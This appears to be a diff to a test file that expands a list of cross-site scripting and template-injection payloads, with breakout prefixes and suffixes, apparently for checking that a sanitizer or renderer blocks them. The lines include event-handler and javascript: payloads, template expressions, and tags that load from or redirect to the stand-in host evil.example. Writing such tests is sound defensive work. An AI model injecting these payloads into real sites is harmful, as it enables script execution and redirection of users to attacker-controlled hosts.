@@ -10,15 +10,15 @@ PAYLOADS = [
         [
             "<script>hit()</script>",
             "<img src=x onerror=hit()>",
-            "<svg onload=hit()>",
+            "<svg onload=hit()><animate onbegin=hit() attributeName=x dur=1s></svg>",
             "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
-            "<a href=javascript:hit()>x</a>",
-            "<details open ontoggle=hit()>",
-            "{{constructor.constructor('hit()')()}}",
-            "${hit()}",
-            "<style>@import 'https://evil.example/x.css'</style>",
-            "<link rel=stylesheet href=https://evil.example/y.css>",
+            "<a href=javascript:hit()>x</a>[y](javascript:hit())",
+            "<details open ontoggle=hit()><summary>z</summary></details>",
+            "{{ 7 * 7 }}{{constructor.constructor('hit()')()}}{% include 'x' %}${hit()}%{x}$\\href{javascript:hit()}{x}$",
+            "<style>@import 'https://evil.example/x.css';body{background:url(https://evil.example/y)}</style>",
+            "<link rel=stylesheet href=https://evil.example/z.css><meta http-equiv=refresh content='0;https://evil.example'>",
+            "<img src=https://evil.example/p.png><video src=https://evil.example/v.mp4 autoplay></video><base href=https://evil.example>",
         ],
-        [("", ""), ("</script>", ""), ('">', ""), ("'-->", "<!--"), ("</textarea></style>", "\u202e\x00")],
+        [("", ""), ("</script>", ""), ('">', ""), ("'-->]]></title>", "<!--"), ("</textarea></style>`", "\u202e\x00")],
     )
 ]
